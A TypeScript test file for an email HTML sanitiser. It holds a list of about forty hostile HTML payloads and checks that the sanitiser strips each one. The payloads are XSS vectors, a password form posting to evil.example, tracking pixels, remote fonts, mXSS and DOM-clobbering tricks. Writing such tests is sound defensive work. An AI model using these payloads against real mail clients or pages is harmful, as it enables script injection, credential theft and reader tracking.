import { describe, expect, test } from 'vitest';
import { MailSanitiser } from '../src/mail/sanitise.ts';

const sanitiser = new MailSanitiser(window);
const clean = (html: string) => sanitiser.sanitise(html);
const parsed = (html: string) => new DOMParser().parseFromString(clean(html).html, 'text/html');

/** One attack each; kept for ever. */
const hostile: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script by its address', '<script src="https://evil.example/x.js"></script>'],
  ['a script in SVG', '<svg><script>alert(1)</script></svg>'],
  ['an event handler', '<img src=x onerror=alert(1)>'],
  ['an event handler on the body', '<body onload=alert(1)>x'],
  [
    'an event handler in SVG',
    '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  ],
  ['an address that is a script', '<a href="javascript:alert(1)">x</a>'],
  ['the same with a tab and entities', '<a href="java&#9;script&colon;alert(1)">x</a>'],
  ['an address with content', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a VBScript address', '<a href="vbscript:x">x</a>'],
  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
  ['a frame with its document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'an object',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/y">',
  ],
  [
    'a form',
    '<form action="https://evil.example/"><input name=passphrase type=password><button>go</button></form>',
  ],
  ['a button that submits elsewhere', '<button formaction="javascript:alert(1)">x</button>'],
  ['a redirection', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a base address', '<base href="https://evil.example/"><img src="x.png">'],
  ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a prefetch', '<link rel="dns-prefetch" href="//secret.evil.example">'],
  [
    'an import in a style',
    '<style>@import url(https://evil.example/x.css);@import "https://evil.example/y.css";</style>x',
  ],
  ['a remote background', '<p style="background:url(https://evil.example/x.png)">x</p>'],
  [
    'a remote background by attribute',
    '<table background="https://evil.example/x.png"><tr><td background="//evil.example/y">x</table>',
  ],
  ['a remote font', '<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>x'],
  ['an image', '<img src="https://evil.example/track.gif">'],
  [
    'a set of images',
    '<img srcset="https://evil.example/track.gif 1x"><picture><source srcset="//evil.example/x"></picture>',
  ],
  [
    'a video',
    '<video poster="https://evil.example/x.png"><source src="https://evil.example/v.mp4"></video>',
  ],
  ['an image in SVG', '<svg><image href="https://evil.example/x.png"/></svg>'],
  [
    'a MathML link',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  ['a document in an image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['a ping', '<a href="https://example.org/" ping="https://evil.example/">x</a>'],
  [
    'a namespace confusion',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    'a shadow root',
    '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
  ],
  ['a custom element', '<signet-app></signet-app><x-y onclick=alert(1)></x-y>'],
  [
    'a clobbered body',
    '<img name="body"><form name="documentElement"></form><a id="location"></a>',
  ],
  ['a split quotation that would leak what follows', '<img src="https://evil.example/?'],
  ['a popover', '<div popover id=x onbeforetoggle=alert(1)>x</div>'],
];

describe('out of a mail goes', () => {
  test.each(hostile)('%s', (_, html) => {
    const document = parsed(html);
    const elements = [...document.querySelectorAll('*')];
    const names = elements.map((element) => element.localName);
    for (const name of [
      'script',
      'iframe',
      'object',
      'embed',
      'form',
      'input',
      'button',
      'meta',
      'base',
      'link',
      'svg',
      'math',
      'template',
      'video',
      'source',
    ]) {
      expect(names).not.toContain(name);
    }
    expect(names.filter((name) => name.includes('-'))).toEqual([]);
    const attributes = elements.flatMap((element) => [...element.attributes]);
    for (const { name, value } of attributes) {
      expect(name).not.toMatch(
        /^on|^(?:id|name|srcset|background|poster|ping|formaction|srcdoc|popover)$/,
      );
      if (name === 'src') expect(value).toMatch(/^data:image\/(?!svg)/);
      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:)/);
    }
    const style = attributes.filter(({ name }) => name === 'style').map(({ value }) => value);
    const sheets = [...document.querySelectorAll('style')].map(
      (element) => element.textContent ?? '',
    );
    for (const text of [...style, ...sheets]) expect(text).not.toMatch(/evil\.example|@import/);
  });
});

describe('in a mail stays', () => {
  test('what only shows something', () => {
    const html =
      '<h1>T</h1><p style="color: red">a <b>b</b></p><table border="1"><tbody><tr><td>c</td></tr></tbody></table>';
    expect(clean(html).html).toBe(html);
  });

  test('a style element', () => {
    expect(clean('<style>p { color: red }</style><p>x</p>').html).toContain('color: red');
  });

  test('a link, which opens apart and tells nothing on the page', () => {
    const link = parsed('<a href="https://example.org/?a=b">x</a>').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://example.org/?a=b');
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer');
  });

  test('an image that it carries', () => {
    const inline = (id: string) => (id === 'a@b c' ? 'data:image/png;base64,AQI=' : null);
    const { html, remoteRemoved } = sanitiser.sanitise(
      '<img src="cid:a@b%20c" alt="x"><img src="cid:other">',
      inline,
    );
    expect(html).toContain('<img src="data:image/png;base64,AQI=" alt="x">');
    expect(html).not.toContain('cid:');
    expect(remoteRemoved).toBe(1);
  });
});

test('what was not loaded is counted, for each mail anew', () => {
  const html =
    '<img src="https://example.org/a"><p style="background: url(https://example.org/b)">x</p>';
  expect(clean(html).remoteRemoved).toBe(2);
  expect(clean('<p>x</p>').remoteRemoved).toBe(0);
});
